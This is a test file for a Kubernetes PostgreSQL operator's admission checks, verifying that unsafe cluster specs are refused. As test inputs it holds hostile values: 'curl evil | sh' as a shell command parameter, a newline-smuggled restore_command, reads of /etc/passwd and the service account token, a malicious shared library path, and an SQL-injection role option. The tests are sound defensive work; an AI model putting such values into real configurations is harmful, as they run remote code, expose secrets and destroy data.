import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { InvalidError, type KubeClient, type KubeObject } from '@kanri/client';
import { parse } from 'yaml';
import { refusedParameter } from '../src/api/parameter-rules.js';
import { type PostgresCluster, PostgresClusterResource } from '../src/index.js';
import { type AdmissionEnv, startAdmissionEnv } from './support/admission-env.js';

const seed = fileURLToPath(new URL('../../test/fixtures/seed-pgo-example.yaml', import.meta.url));

const volume = { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } };

describe('PostgresCluster admission against a real API server', () => {
  let env: AdmissionEnv;
  let client: KubeClient;
  before(async () => {
    env = await startAdmissionEnv([PostgresClusterResource]);
    client = env.client;
  });
  after(async () => {
    await env?.stop();
  });

  const clusters = () => client.resource<PostgresCluster>(PostgresClusterResource.apiVersion, 'PostgresCluster');
  const rejection = async (spec: unknown) => {
    const error = await clusters()
      .create({ metadata: { name: 'bad', namespace: 'default' }, spec } as PostgresCluster, { dryRun: true })
      .catch((e: unknown) => e);
    assert.ok(error instanceof InvalidError, `rejected as invalid: ${error}`);
    return error instanceof Error ? error.message : String(error);
  };

  it("applies the seed's example with only apiVersion changed (with its S3 credentials Secret), with defaults", async () => {
    const text = await readFile(seed, 'utf8');
    const example = parse(text.slice(text.indexOf('apiVersion: postgres-operator'))) as PostgresCluster;
    example.apiVersion = PostgresClusterResource.apiVersion;
    await client.resource<KubeObject>('v1', 'Secret').create({
      metadata: { name: 'pgo-s3-creds', namespace: 'default' },
      stringData: { 's3.conf': '[global]\nrepo1-s3-key=AKIAEXAMPLE\nrepo1-s3-key-secret=example\n' },
    } as KubeObject);
    const created = await clusters().create({ ...example, metadata: { ...example.metadata, namespace: 'default' } });
    assert.equal(created.spec.postgresVersion, 16);
    assert.equal(created.spec.instances[0]?.replicas, 3);
    assert.deepEqual(created.spec.instances[0]?.dataVolumeClaimSpec.resources.requests, { storage: '20Gi' });
    assert.equal(created.spec.userRemovalPolicy, 'Retain', 'a removed user is kept unless asked otherwise');
    assert.deepEqual(created.spec.backups?.pgbackrest.configuration, [{ secret: { name: 'pgo-s3-creds' } }]);
    assert.deepEqual(created.spec.backups?.pgbackrest.repos, [
      {
        name: 'repo1',
        s3: { bucket: 'my-backups', endpoint: 's3.ap-northeast-1.amazonaws.com', region: 'ap-northeast-1' },
      },
    ]);
  });

  it('rejects replicas: 0 naming the field', async () => {
    const message = await rejection({ postgresVersion: 15, instances: [{ replicas: 0, dataVolumeClaimSpec: volume }] });
    assert.match(message, /spec\.instances\[0\]\.replicas/);
  });

  it('rejects an unknown userRemovalPolicy naming the field', async () => {
    const message = await rejection({
      postgresVersion: 15,
      instances: [{ dataVolumeClaimSpec: volume }],
      userRemovalPolicy: 'Delete',
    });
    assert.match(message, /spec\.userRemovalPolicy/);
  });

  it('rejects an unsupported postgresVersion naming the field', async () => {
    const message = await rejection({ postgresVersion: 12, instances: [{ dataVolumeClaimSpec: volume }] });
    assert.match(message, /spec\.postgresVersion/);
  });

  it('rejects a missing dataVolumeClaimSpec naming the field', async () => {
    const message = await rejection({ postgresVersion: 15, instances: [{ replicas: 1 }] });
    assert.match(message, /spec\.instances\[0\]\.dataVolumeClaimSpec/);
  });

  it('rejects HA timings that cannot work, and parameters the agent owns (CEL)', async () => {
    const ha = await rejection({
      postgresVersion: 15,
      instances: [{ dataVolumeClaimSpec: volume }],
      ha: { leaseDurationSeconds: 5, renewDeadlineSeconds: 5 },
    });
    assert.match(ha, /spec\.ha\.renewDeadlineSeconds/);
    assert.match(ha, /renewDeadlineSeconds must be less than leaseDurationSeconds/);
    const reserved = await rejection({
      postgresVersion: 15,
      instances: [{ dataVolumeClaimSpec: volume }],
      config: { parameters: { listen_addresses: '*' } },
    });
    assert.match(reserved, /spec\.config\.parameters/);
    assert.match(reserved, /managed by the operator/);
    const duplicate = await rejection({
      postgresVersion: 15,
      instances: [
        { name: 'a', dataVolumeClaimSpec: volume },
        { name: 'a', dataVolumeClaimSpec: volume },
      ],
    });
    assert.match(duplicate, /spec\.instances: .*instance set names must be unique/);
  });

  it('refuses upper-case names (postgres folds them past the lists), keys that are not setting names, reserved ones, shell commands, fsync off, and synchronous_commit local in synchronous mode, each saying why', async () => {
    const spec = (parameters: Record<string, unknown>, extra: Record<string, unknown> = {}) => ({
      postgresVersion: 15,
      instances: [{ replicas: 2, dataVolumeClaimSpec: volume }],
      config: { parameters },
      ...extra,
    });
    // postgres folds names to lower case: an upper-case spelling must not slip past the lists.
    assert.match(await rejection(spec({ DATA_DIRECTORY: '/tmp/x' })), /parameter names are lower-case letters/);
    assert.match(await rejection(spec({ data_directory: '/tmp/x' })), /managed by the operator: .*data_directory/);
    assert.match(await rejection(spec({ recovery_target_time: 'now' })), /managed by the operator/);
    assert.match(await rejection(spec({ 'work_mem = 1MB\nfsync': 'off' })), /parameter names are lower-case letters/);
    assert.match(
      await rejection(spec({ archive_cleanup_command: 'curl evil' })),
      /run shell commands in the instances/,
    );
    assert.match(await rejection(spec({ fsync: 'Off' })), /fsync and full_page_writes cannot be off/);
    assert.match(await rejection(spec({ full_page_writes: 0 })), /cannot be off/);
    // Below the reserved connections postgres will not start, and says so without a FATAL line.
    for (const value of [1, '3', '9', 'many', '300000'])
      assert.match(
        await rejection(spec({ max_connections: value })),
        /max_connections must be a whole number from 10 to 262143/,
        String(value),
      );
    const local = await rejection(spec({ synchronous_commit: 'local' }, { ha: { synchronous: {} } }));
    assert.match(local, /spec\.config\.parameters/);
    assert.match(local, /synchronous_commit cannot be local or off with ha\.synchronous/);
    // What stays allowed: the same settings with safe values, and synchronous_commit local without the promise.
    for (const [name, parameters, extra] of [
      ['fsync-on', { fsync: 'on', full_page_writes: 'on', work_mem: '8MB', 'auto_explain.log_min_duration': 100 }, {}],
      ['connections', { max_connections: 10 }, {}],
      ['connections-text', { max_connections: '262143' }, {}],
      ['async-local', { synchronous_commit: 'local' }, {}],
      ['sync-remote', { synchronous_commit: 'remote_apply' }, { ha: { synchronous: {} } }],
    ] as const)
      await clusters().create(
        { metadata: { name, namespace: 'default' }, spec: spec(parameters, extra) } as unknown as PostgresCluster,
        { dryRun: true },
      );
  });

  it('refuses what would break the cluster later: user names no Secret can carry or the operator owns, more instances than WAL senders, timings the elector refuses', async () => {
    const base = { postgresVersion: 15, instances: [{ replicas: 2, dataVolumeClaimSpec: volume }] };
    const underscore = await rejection({ ...base, users: [{ name: 'app_user' }] });
    assert.match(underscore, /spec\.users\[0\]\.name/);
    for (const name of ['postgres', 'streaming_replica']) {
      const reserved = await rejection({ ...base, users: [{ name }] });
      assert.match(reserved, /spec\.users\[0\]\.name/, name);
    }
    assert.match(await rejection({ ...base, users: [{ name: 'postgres' }] }), /roles the operator manages itself/);
    const many = await rejection({
      postgresVersion: 15,
      instances: [
        { name: 'a', replicas: 5, dataVolumeClaimSpec: volume },
        { name: 'b', replicas: 4, dataVolumeClaimSpec: volume },
      ],
    });
    assert.match(many, /spec\.instances: .*at most 8 instances in all/);
    const timings = await rejection({
      ...base,
      ha: { leaseDurationSeconds: 15, renewDeadlineSeconds: 6, retryPeriodSeconds: 5 },
    });
    assert.match(timings, /spec\.ha\.retryPeriodSeconds/);
    assert.match(timings, /renewDeadlineSeconds must exceed 1\.2 × retryPeriodSeconds/);
    // The edges that stay allowed: a hyphenated user, 8 instances, renew deadline just over 1.2 × retry.
    await clusters().create(
      {
        metadata: { name: 'edges', namespace: 'default' },
        spec: {
          postgresVersion: 15,
          instances: [{ replicas: 8, dataVolumeClaimSpec: volume }],
          users: [{ name: 'app-user' }],
          ha: { leaseDurationSeconds: 15, renewDeadlineSeconds: 7, retryPeriodSeconds: 5 },
        },
      } as PostgresCluster,
      { dryRun: true },
    );
  });

  it('refuses cluster names its Services or replication slots could not carry, naming the field, and admits the longest that fit', async () => {
    const spec = (set?: string) => ({
      postgresVersion: 15,
      instances: [{ ...(set ? { name: set } : {}), replicas: 1, dataVolumeClaimSpec: volume }],
    });
    const create = (name: string, set?: string) =>
      clusters()
        .create({ metadata: { name, namespace: 'default' }, spec: spec(set) } as PostgresCluster, { dryRun: true })
        .then(
          () => 'admitted',
          (e: unknown) => (e instanceof InvalidError ? e.message : `not refused as invalid: ${e}`),
        );
    // <name>-replicas must be a DNS label: 54 characters fit, 55 do not; a digit or a dot cannot lead or sit in it.
    assert.match(await create('x'.repeat(55), 'a'), /metadata\.name must start with a letter.*at most 54 characters/);
    for (const name of ['1db', 'db.prod'])
      assert.match(await create(name), /metadata\.name must start with a letter/, name);
    // kanri_<name>_<set>_<NN> must fit in 63 bytes: name and set together at most 53.
    const slot = await create('x'.repeat(45), 'abcdefghi');
    assert.match(slot, /spec\.instances: .*at most 53 characters: replication slots/);
    assert.match(await create('x'.repeat(45)), /replication slots/, 'an unset set name counts as instance<N>');
    assert.equal(await create('x'.repeat(44), 'abcdefghi'), 'admitted');
    assert.equal(await create('x'.repeat(44)), 'admitted', '44 + 9 for instance1: 53 fits');
  });

  it('rejects a synchronous number the replicas cannot meet, naming the field', async () => {
    const message = await rejection({
      postgresVersion: 15,
      instances: [{ replicas: 2, dataVolumeClaimSpec: volume }],
      ha: { synchronous: { number: 2 } },
    });
    assert.match(message, /spec\.ha\.synchronous\.number/);
    assert.match(message, /must be less than the number of instances/);
    const ok = await clusters().create(
      {
        metadata: { name: 'sync-ok', namespace: 'default' },
        spec: {
          postgresVersion: 15,
          instances: [{ replicas: 3, dataVolumeClaimSpec: volume }],
          ha: { synchronous: {} },
        },
      } as PostgresCluster,
      { dryRun: true },
    );
    assert.equal(ok.spec.ha?.synchronous?.number, 1);
  });

  it('lets a data volume grow but never shrink, and refuses auto-grow without a size to grow to', async () => {
    const sized = (storage: string, extra: Record<string, unknown> = {}) => ({
      ...volume,
      resources: { requests: { storage } },
      ...extra,
    });
    const cluster = (name: string, sets: { name?: string; storage: string }[]) =>
      ({
        metadata: { name, namespace: 'default' },
        spec: {
          postgresVersion: 15,
          instances: sets.map((set) => ({
            ...(set.name ? { name: set.name } : {}),
            replicas: 1,
            dataVolumeClaimSpec: sized(set.storage),
          })),
        },
      }) as PostgresCluster;
    const resize = async (name: string, sets: { name?: string; storage: string }[]) => {
      const current = await clusters().get(name, { namespace: 'default' });
      return clusters()
        .update({ ...cluster(name, sets), metadata: current.metadata })
        .then(
          () => 'admitted',
          (e: Error) => e.message,
        );
    };
    await clusters().create(
      cluster('grow-named', [
        { name: 'a', storage: '1Gi' },
        { name: 'b', storage: '1Gi' },
      ]),
    );
    assert.equal(
      await resize('grow-named', [
        { name: 'a', storage: '1536Mi' },
        { name: 'b', storage: '1Gi' },
      ]),
      'admitted',
    );
    const shrunk = await resize('grow-named', [
      { name: 'a', storage: '1Gi' },
      { name: 'b', storage: '1Gi' },
    ]);
    assert.match(shrunk, /spec\.instances: Invalid value: .*requests\.storage cannot be lowered/);
    // A set that is new (no old one of its name) may be any size.
    assert.equal(
      await resize('grow-named', [
        { name: 'a', storage: '1536Mi' },
        { name: 'b', storage: '1Gi' },
        { name: 'c', storage: '512Mi' },
      ]),
      'admitted',
    );
    await clusters().create(cluster('grow-one', [{ storage: '2Gi' }]));
    assert.match(await resize('grow-one', [{ storage: '1Gi' }]), /cannot be lowered/);
    assert.equal(await resize('grow-one', [{ storage: '3Gi' }]), 'admitted');

    const autoGrowOnly = await rejection({
      postgresVersion: 15,
      instances: [{ dataVolumeClaimSpec: sized('1Gi', { autoGrow: { trigger: 80 } }) }],
    });
    assert.match(
      autoGrowOnly,
      /spec\.instances\[0\]\.dataVolumeClaimSpec\.autoGrow: Invalid value: .*set the size it may grow to/,
    );
    const limitBelow = await rejection({
      postgresVersion: 15,
      instances: [
        {
          dataVolumeClaimSpec: { ...volume, resources: { requests: { storage: '2Gi' }, limits: { storage: '1Gi' } } },
        },
      ],
    });
    assert.match(limitBelow, /resources\.limits\.storage: Invalid value: .*must not be less than/);
    const ok = await clusters().create(
      {
        metadata: { name: 'auto-grow', namespace: 'default' },
        spec: {
          postgresVersion: 15,
          instances: [
            {
              dataVolumeClaimSpec: {
                ...volume,
                resources: { requests: { storage: '1Gi' }, limits: { storage: '4Gi' } },
                autoGrow: { maxGrow: '512Mi' },
              },
            },
          ],
        },
      } as PostgresCluster,
      { dryRun: true },
    );
    assert.equal(ok.spec.instances[0]?.dataVolumeClaimSpec.autoGrow?.trigger, 75, "PGO's default trigger");
  });

  it('rejects role options outside the allow-list (no SQL through options)', async () => {
    const message = await rejection({
      postgresVersion: 15,
      instances: [{ dataVolumeClaimSpec: volume }],
      users: [{ name: 'app', options: 'SUPERUSER; DROP TABLE x; --' }],
    });
    assert.match(message, /spec\.users\[0\]\.options/);
  });

  it('refuses parameters that read or write files, or load or run code, at a place the spec names, each saying why', async () => {
    const spec = (parameters: Record<string, unknown>) => ({
      postgresVersion: 15,
      instances: [{ dataVolumeClaimSpec: volume }],
      config: { parameters },
    });
    const refusals: [Record<string, unknown>, RegExp][] = [
      [{ include: '/etc/passwd' }, /include, include_dir, include_if_exists would read another file as configuration/],
      [{ include_dir: '/tmp' }, /would read another file as configuration/],
      [{ include_if_exists: '/pgdata/evil.conf' }, /would read another file as configuration/],
      [
        { archive_library: 'basic_archive' },
        /load shared libraries.*\(archive_library would also replace the pgBackRest archive/,
      ],
      [
        { dynamic_library_path: '/pgdata' },
        /load shared libraries \(code run inside postgres\) or choose where they are found/,
      ],
      [{ jit_provider: '../../../tmp/evil' }, /load shared libraries/],
      [
        { shared_preload_libraries: '/tmp/evil.so' },
        /shared_preload_libraries, session_preload_libraries, local_preload_libraries may list only pg_stat_statements, auto_explain/,
      ],
      [{ shared_preload_libraries: 'pg_stat_statements,evil' }, /may list only/],
      [{ session_preload_libraries: '$libdir/plugins/x' }, /may list only/],
      [{ local_preload_libraries: 'basic_archive' }, /may list only/],
      [
        { log_directory: '/etc' },
        /log_directory, log_filename, stats_temp_directory, krb_server_keyfile name files or directories/,
      ],
      [{ log_filename: '../../x' }, /name files or directories/],
      [{ krb_server_keyfile: '/var/run/secrets/kubernetes.io/serviceaccount/token' }, /name files or directories/],
      [{ ssl_crl_file: '/x' }, /ssl_ parameters other than ssl_ciphers, .* name certificate, key, CRL or DH files/],
      [{ ssl_dh_params_file: '/x' }, /ssl_ parameters other than/],
      [{ ssl_passphrase_command: 'curl evil | sh' }, /ssl_passphrase_command run shell commands in the instances/],
      [{ unix_socket_group: 'root' }, /managed by the operator/],
      [
        { work_mem: "4MB'\nrestore_command = 'curl evil" },
        /the value of work_mem holds a control character: a newline would end its line in postgresql\.conf/,
      ],
      [{ application_name: 'a\u0000b' }, /the value of application_name holds a control character/],
    ];
    for (const [parameters, why] of refusals) {
      const message = await rejection(spec(parameters));
      assert.match(message, /spec\.config\.parameters: Invalid value/, JSON.stringify(parameters));
      assert.match(message, why, JSON.stringify(parameters));
    }
    // What stays allowed: PostgreSQL's own preloadable modules and how TLS is spoken.
    for (const [name, parameters] of [
      ['preload', { shared_preload_libraries: 'pg_stat_statements, auto_explain', 'pg_stat_statements.track': 'all' }],
      ['session', { session_preload_libraries: 'auto_explain', 'auto_explain.log_min_duration': '10s' }],
      ['empty', { shared_preload_libraries: '' }],
      ['tls', { ssl_min_protocol_version: 'TLSv1.3', ssl_ciphers: 'HIGH:!aNULL' }],
      ['logs', { log_min_duration_statement: 100, log_line_prefix: '%m [%p] ' }],
    ] as const)
      await clusters().create(
        { metadata: { name, namespace: 'default' }, spec: spec(parameters) } as unknown as PostgresCluster,
        { dryRun: true },
      );
  });

  it('gives the same answers on parameters as the pure check', async () => {
    const samples: Record<string, unknown>[] = [
      { shared_preload_libraries: ' pg_stat_statements ,auth_delay ' },
      { shared_preload_libraries: 'pg_stat_statements,' },
      { shared_preload_libraries: 1 },
      { session_preload_libraries: 'pg_prewarm,passwordcheck' },
      { ssl_ecdh_curve: 'prime256v1' },
      { ssl_prefer_server_ciphers: 'on' },
      { ssl: 'off' },
      { fsync: 'OFF' },
      { fsync: 'Of' },
      { full_page_writes: 1 },
      { max_connections: '0100' },
      { max_connections: 262_144 },
      { work_mem: 'a\tb' },
      { work_mem: 'é' },
      { 'custom.x': 'y' },
      { Include: 'x' },
      { log_destination: 'stderr' },
      { log_statement: 'all' },
    ];
    for (const parameters of samples) {
      const expected = refusedParameter(parameters) !== undefined;
      const actual = await clusters()
        .create(
          {
            metadata: { name: 'same', namespace: 'default' },
            spec: { postgresVersion: 15, instances: [{ dataVolumeClaimSpec: volume }], config: { parameters } },
          } as unknown as PostgresCluster,
          { dryRun: true },
        )
        .then(
          () => false,
          (e: unknown) => e instanceof InvalidError,
        );
      assert.equal(actual, expected, JSON.stringify(parameters));
    }
  });
});
